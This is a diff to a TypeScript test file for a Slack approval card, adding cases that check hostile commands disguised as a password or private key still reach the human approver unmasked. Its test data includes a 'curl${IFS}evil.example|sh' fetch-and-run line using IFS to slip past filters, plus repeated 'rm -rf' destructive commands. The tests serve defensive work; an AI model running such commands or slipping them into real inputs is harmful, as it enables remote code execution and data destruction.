@@ -2,7 +2,7 @@
 
 import { expect } from "vitest";
 import { isBlank } from "#src/core/text.ts";
-import { requestText } from "#src/core/request-text.ts";
+import { fileText, requestText } from "#src/core/request-text.ts";
 import { isRecord, type Json } from "#src/core/json.ts";
 import { approvalCard } from "#src/slack/blocks/approval-card.ts";
 import { decisionModal, readModal } from "#src/slack/blocks/decision-modal.ts";
@@ -52,7 +52,31 @@ const tails = attacks<void, readonly [string, number]>(
     // What the form can't hold is attached as a file in full, and until then nobody can decide.
     const buttons = objectsIn(wire(card.blocks)).filter(({ style }) => style === "primary");
     expect(whole || buttons.length === 0).toBe(true);
-    expect(requestText(request)).toContain("rm -rf /tail");
+    expect(requestText(request, "open")).toContain("rm -rf /tail");
+  },
+);
+
+const LONG = "echo fine; ".repeat(6_000);
+const behindMasks = attacks<void, readonly [string, string, boolean]>(
+  18,
+  5,
+  [
+    ["a command that passes for a password", "password=curl${IFS}evil.example|sh", true],
+    [
+      "commands that pass for a private key",
+      `-----BEGIN PRIVATE KEY-----\n${"rm -rf /tail; ".repeat(60)}`,
+      true,
+    ],
+    ["the same in a file", `${LONG}-----BEGIN PRIVATE KEY-----\n${"rm -rf /tail; ".repeat(60)}`, true],
+    ["more of it than a form holds", `-----BEGIN PRIVATE KEY-----\n${"rm -rf /tail; ".repeat(6_000)}`, false],
+  ],
+  (_, [, action, inForm]) => {
+    const { request, card, form } = shown({ action });
+    expectMessage(card);
+    expectView(form);
+    const hidden = action.slice(-50);
+    // Masked for the channel it may be; whoever decides reads it, in the form or in the file.
+    expect(inForm ? textOf(form.blocks) : fileText(request)).toContain(hidden.trimStart());
   },
 );
 
@@ -143,7 +167,7 @@ const lied = attacks<void, readonly [string, Json]>(22, 1, LIES, (_, [, content]
   const { request, full, card } = shown(content);
   const text = textOf(full.blocks);
   for (const value of Object.values(content as object)) expect(text).toContain(String(value));
-  expect(requestText(request)).toContain(String(Object.values(content as object).at(-1)));
+  expect(requestText(request, "open")).toContain(String(Object.values(content as object).at(-1)));
   expect(JSON.stringify(card.blocks)).toContain("card_approve");
 });
 
@@ -200,6 +224,7 @@ const tired = attacks<void, readonly [string, () => void]>(
 
 export const contentCases: readonly Attack[] = [
   ...tails,
+  ...behindMasks,
   ...unseen,
   ...blanks,
   ...markup,
